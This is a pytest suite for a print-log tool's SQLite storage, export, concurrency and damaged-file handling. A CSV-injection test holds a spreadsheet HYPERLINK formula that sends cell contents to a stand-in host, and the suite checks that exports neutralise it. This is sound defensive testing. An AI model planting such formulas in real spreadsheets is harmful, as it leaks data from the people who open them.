"""The print log: what is kept, counted and exported; several processes, a killed writer, files that are none."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from printprep.compose import pipeline
from printprep.errors import InputError, OutsideError, ParameterError
from printprep.jobs import log_store
from printprep.jobs.log_store import COLUMNS
from printprep.jobs.logbook import RESULTS, Cost, Entry, Logbook, as_csv, as_json, cost, cost_by_paper, log_file
from printprep.jobs.prepare import prepare
from tests.support.tiffs import picture, tiff

KEPT = Path(__file__).parent / "kept"
"""Logs and tickets as versions before wrote them."""

WHEN = datetime(2026, 3, 1, 20, 15, tzinfo=UTC)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("made")
    pipe = pipeline(paper="cotton-rag", room="hallway")
    prepare(tiff(folder / "a.tif", pixels=picture(40, 30)), folder / "a.out.tif", pipe)
    return folder / "a.out.tif"


@pytest.fixture
def book(tmp_path: Path) -> Logbook:
    return Logbook(tmp_path / "deep" / "log.sqlite3")


def row(**said: str) -> dict[str, str]:
    return {name: said.get(name, "") for name in COLUMNS}


def entry(number: int, edit: str, result: str, paper: str = "gloss") -> Entry:
    return Entry(number, "", "", "", edit, paper, "", result=result)


# ---------------------------------------------------------------- sheets and results


def test_a_sheet_is_kept_with_all_that_is_known(book: Logbook, made: Path) -> None:
    assert book.entries() == []
    assert not book.path.exists()  # looking makes nothing
    found, there = book.add(made, result="too dark", sheet="A3+", settings="fine art, 1440", note="evening", date=WHEN)
    assert (found.number, there) == (1, False)
    assert (found.paper, found.room, found.result, found.sheet) == ("cotton-rag", "hallway", "too dark", "A3+")
    assert datetime.fromisoformat(found.date) == WHEN
    assert found.print == str(made)
    assert found.to_dict()["ticket"]["paper"]["name"] == "cotton-rag"
    assert book.entries() == [found] == [book.entry(1)]
    with pytest.raises(ParameterError, match="number = 2: is not in the log"):
        book.entry(2)


def test_a_result_goes_to_the_sheet_that_waits_for_it(book: Logbook, made: Path) -> None:
    assert book.add(made, sheet="A4")[0].result == ""
    assert book.add(made)[0].number == 2  # another sheet of the same
    assert book.add(made, result="right", note="dry")[0].number == 2
    judged, there = book.add(made, result="Too-Light")
    assert (judged.number, judged.result, judged.sheet, there) == (1, "too light", "A4", True)
    assert book.add(made, result="right")[0].number == 3
    assert [e.result for e in book.entries()] == ["too light", "right", "right"]


def test_what_cannot_be_kept_is_refused(book: Logbook, made: Path, tmp_path: Path) -> None:
    with pytest.raises(ParameterError, match="result = 'to dark': must be one of: right, too dark, "):
        book.add(made, result="to dark")
    with pytest.raises(ParameterError, match=r"note = .*at most 2000 characters"):
        book.add(made, note="x" * 2001)
    with pytest.raises(InputError, match="has no job ticket"):
        book.add(tiff(tmp_path / "edit.tif"))
    with pytest.raises(ParameterError, match="path = None"):
        book.add(None)  # type: ignore[arg-type]
    assert not book.path.exists()


def test_names_that_are_no_text_are_kept_escaped(book: Logbook, made: Path) -> None:
    odd = made.parent / os.fsdecode(b"w\xff.tif")
    odd.write_bytes(made.read_bytes())
    assert book.add(odd, note="\ud800 \u00e4")[0].print.endswith("w\\udcff.tif")


def test_where_the_log_is(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PRINTPREP_LOG", str(tmp_path / "x.sqlite3"))
    assert log_file() == Logbook().path == tmp_path / "x.sqlite3"
    monkeypatch.delenv("PRINTPREP_LOG")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))  # XDG Base Directory Specification, user-specific data
    if sys.platform == "linux":
        assert log_file() == tmp_path / "printprep" / "log.sqlite3"


# ---------------------------------------------------------------- cost


def test_what_finished_prints_took() -> None:
    tries = [
        ("a", "right"), ("b", "too dark"), ("b", "right"), ("b", "right"), ("c", "soft"), ("c", "tinted"),
        ("d", ""), ("a", "right"),
    ]  # fmt: skip
    done = cost(entry(k, edit, result) for k, (edit, result) in enumerate(tries))
    assert done == Cost(sheets=7, finished=4, first=3, waiting=1)
    assert str(done) == "7 sheets for 4 finished prints, 3 right the first time; 1 not judged yet"
    assert str(cost([])) == "0 sheets for 0 finished prints"
    assert str(Cost(1, 1, 1)) == "1 sheet for 1 finished print, 1 right the first time"


def test_another_paper_is_another_print() -> None:
    entries = [entry(1, "a", "soft", "gloss"), entry(2, "a", "right", "canvas"), entry(3, "a", "right", "gloss")]
    assert cost_by_paper(entries) == {"canvas": Cost(1, 1, 1), "gloss": Cost(2, 1, 0)}
    assert cost(entries) == Cost(3, 2, 1)


# ---------------------------------------------------------------- export


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff20"])
def test_no_cell_is_a_formula(start: str) -> None:
    """OWASP, "CSV Injection": cells that begin so, also in full width, and how they are kept from running."""
    bad = f'{start}HYPERLINK("http://192.0.2.1/"&A1),"x'
    text = as_csv([Entry(1, "", bad, "", bad, bad, bad, bad, bad, bad, bad, bad)])
    head, cells = csv.reader(io.StringIO(text, newline=""))
    assert head == ["number", "date", "print", "prepared", "edit", "paper", "room", "sheet", "settings", "result",
                    "note", "version"]  # fmt: skip
    assert [c for c in cells if c.startswith("'")] == [f"'{bad}"] * 9
    assert not re.search(rf'(^|,)"{re.escape(start)}', text)


def test_plain_text_stays_and_ends_as_the_standard_says() -> None:
    text = as_csv([entry(7, 'a "b", c', "too dark")])
    assert text.count("\r\n") == 2  # RFC 4180, 2.1 and 2.2
    assert next(csv.DictReader(io.StringIO(text, newline="")))["edit"] == 'a "b", c'


def test_json_holds_the_tickets(book: Logbook, made: Path) -> None:
    book.add(made, result="right")
    assert json.loads(as_json(book.entries()))[0]["ticket"]["kind"] == "printprep job ticket"


# ---------------------------------------------------------------- several processes

WRITER = """
import sys
from pathlib import Path
from printprep.jobs.log_store import COLUMNS, add
for k in range(int(sys.argv[3])):
    add(Path(sys.argv[1]), {name: f"{sys.argv[2]} {k}" for name in COLUMNS})
"""


def test_processes_that_write_at_once_lose_nothing(tmp_path: Path) -> None:
    path = tmp_path / "log.sqlite3"  # made by whoever comes first
    running = [subprocess.Popen([sys.executable, "-c", WRITER, path, name, "20"]) for name in "abc"]
    assert [process.wait(100) for process in running] == [0, 0, 0]
    rows = log_store.rows(path)
    assert [number for number, _ in rows] == list(range(1, 61))
    for name in "abc":
        assert [r["note"] for _, r in rows if r["note"][0] == name] == [f"{name} {k}" for k in range(20)]


def test_one_result_judges_one_sheet_whoever_is_first(tmp_path: Path) -> None:
    path = tmp_path / "log.sqlite3"
    log_store.add(path, row(print="p"))
    assert log_store.add(path, row(print="p", result="right"), judges=("print",)) == (1, True)
    assert log_store.add(path, row(print="p", result="soft"), judges=("print",)) == (2, False)


def test_a_writer_killed_at_any_moment_leaves_whole_entries(tmp_path: Path) -> None:
    path, whole = tmp_path / "log.sqlite3", 0
    for patience in (0.02, 0.05, 0.09):
        process = subprocess.Popen([sys.executable, "-c", WRITER, path, "x", "1000000"])
        deadline = time.monotonic() + 60
        while (not path.exists() or len(log_store.rows(path)) <= whole) and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(patience)
        process.send_signal(signal.SIGKILL)
        process.wait(10)
        rows = log_store.rows(path)
        assert len(rows) > whole
        assert all(len(set(r.values())) == 1 for _, r in rows)  # every column of an entry says the same
        whole = len(rows)
    assert log_store.add(path, row(note="after")) == (whole + 1, False)


def test_a_writer_killed_amid_a_transaction_is_undone(tmp_path: Path) -> None:
    path = tmp_path / "log.sqlite3"
    log_store.add(path, row(note="1"))
    script = (
        "import sqlite3, sys, os, signal; base = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
        "base.execute('PRAGMA cache_size = 1'); base.execute('BEGIN IMMEDIATE')\n"
        "base.execute(\"UPDATE prints SET note = 'half'\")\n"
        "for k in range(50): base.execute(\"INSERT INTO prints SELECT NULL, 'x', 'x', 'x', 'x', 'x', 'x', 'x', 'x', "
        "'x', 'x', 'x', hex(zeroblob(9000))\")\n"
        "os.kill(os.getpid(), signal.SIGKILL)"
    )
    subprocess.run([sys.executable, "-c", script, path], check=False)
    assert path.with_name("log.sqlite3-journal").stat().st_size > 0  # it was killed with pages in the file already
    assert [r["note"] for _, r in log_store.rows(path)] == ["1"]


def test_a_log_that_another_process_holds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "log.sqlite3"
    log_store.add(path, row())
    monkeypatch.setattr(log_store, "_PATIENCE", 0.05)
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    with pytest.raises(OutsideError, match="is held by another process"):
        log_store.add(path, row())
    other.execute("COMMIT")
    other.close()
    assert log_store.add(path, row())[0] == 2


# ---------------------------------------------------------------- schemas


def test_a_log_of_schema_1_is_read(tmp_path: Path) -> None:
    """Written down as SQL when it was the newest."""
    path = tmp_path / "log.sqlite3"
    with sqlite3.connect(path) as base:
        base.executescript((KEPT / "log-schema-1.sql").read_text())
    base.close()
    (found,) = Logbook(path).entries()
    assert (found.result, found.paper, found.sheet, found.note) == ("too dark", "cotton-rag", "A3+", "evening")
    assert found.to_dict()["ticket"]["version"] == "0.1.0"
    assert log_store.add(path, row())[0] == 2


NEXT = ("ALTER TABLE prints ADD COLUMN printer TEXT NOT NULL DEFAULT 'unknown'", "UPDATE prints SET note = note || '!'")


def version(path: Path) -> int:
    base = sqlite3.connect(path)
    found = int(base.execute("PRAGMA user_version").fetchone()[0])
    base.close()
    return found


def test_an_older_log_follows_once_and_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "log.sqlite3"
    log_store.add(path, row(note="kept"))
    assert version(path) == len(log_store.STEPS)
    before = path.read_bytes()
    with monkeypatch.context() as patch:
        patch.setattr(log_store, "STEPS", (*log_store.STEPS, (*NEXT, "SELECT nothing_of_the_kind")))
        with pytest.raises(OutsideError, match="nothing was changed"):
            log_store.rows(path)
        assert path.read_bytes() == before  # a step that fails leaves all as it was
        patch.setattr(log_store, "STEPS", (*log_store.STEPS[:-1], NEXT, ("UPDATE prints SET note = note || '?'",)))
        patch.setattr(log_store, "COLUMNS", (*COLUMNS, "printer"))
        for _ in range(2):
            assert [(r["note"], r["printer"]) for _, r in log_store.rows(path)] == [("kept!?", "unknown")]
        assert version(path) == len(log_store.STEPS)
    newer = path.read_bytes()
    for use in (lambda: log_store.rows(path), lambda: log_store.add(path, row())):
        with pytest.raises(InputError, match="is a print log of a newer version; use a newer printprep"):
            use()
    assert path.read_bytes() == newer


# ---------------------------------------------------------------- files that are none


def other_base(path: Path) -> None:
    with sqlite3.connect(path) as base:
        base.execute("CREATE TABLE prints (number INTEGER)")
    base.close()


def same_version_of_others(path: Path) -> None:
    with sqlite3.connect(path) as base:
        base.execute("CREATE TABLE prints (number INTEGER)")
        base.execute("PRAGMA user_version = 1")
    base.close()


def damaged(path: Path) -> None:
    log_store.add(path, row(ticket="x" * 9000))
    data = bytearray(path.read_bytes())
    data[-3000:-1000] = b"\xff" * 2000
    data[4096:4200] = b"\xff" * 104
    path.write_bytes(data)


def cut(path: Path) -> None:
    log_store.add(path, row(ticket="x" * 9000))
    os.truncate(path, 5000)


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (lambda p: p.write_bytes(b"a diary, dear"), "is no print log"),
        (lambda p: p.write_bytes(b"SQLite"), "is no print log"),
        (other_base, "is no print log"),
        (same_version_of_others, "is no print log"),
        (damaged, "is damaged"),
        (cut, "is damaged"),
        (lambda p: p.mkdir(), "is a folder"),
        (lambda p: os.mkfifo(p), "is not a regular file"),
    ],
)
def test_other_and_damaged_files_are_left_alone(tmp_path: Path, make: Callable[[Path], None], says: str) -> None:
    path = tmp_path / "log.sqlite3"
    make(path)
    before = path.read_bytes() if path.is_file() else b""
    for use in (lambda: log_store.rows(path), lambda: log_store.add(path, row())):
        with pytest.raises(InputError, match=says) as caught:
            use()
        assert "\n" not in str(caught.value)
        assert repr(str(path)) in str(caught.value)
    assert (path.read_bytes() if path.is_file() else b"") == before
    assert [p.name for p in tmp_path.iterdir()] == ["log.sqlite3"]


def test_an_empty_file_is_a_log_that_was_just_begun(tmp_path: Path) -> None:
    (tmp_path / "log.sqlite3").touch()
    assert log_store.rows(tmp_path / "log.sqlite3") == []


def test_every_result_is_known_to_the_trade() -> None:
    assert len(set(RESULTS)) == 8
    assert "right" in RESULTS
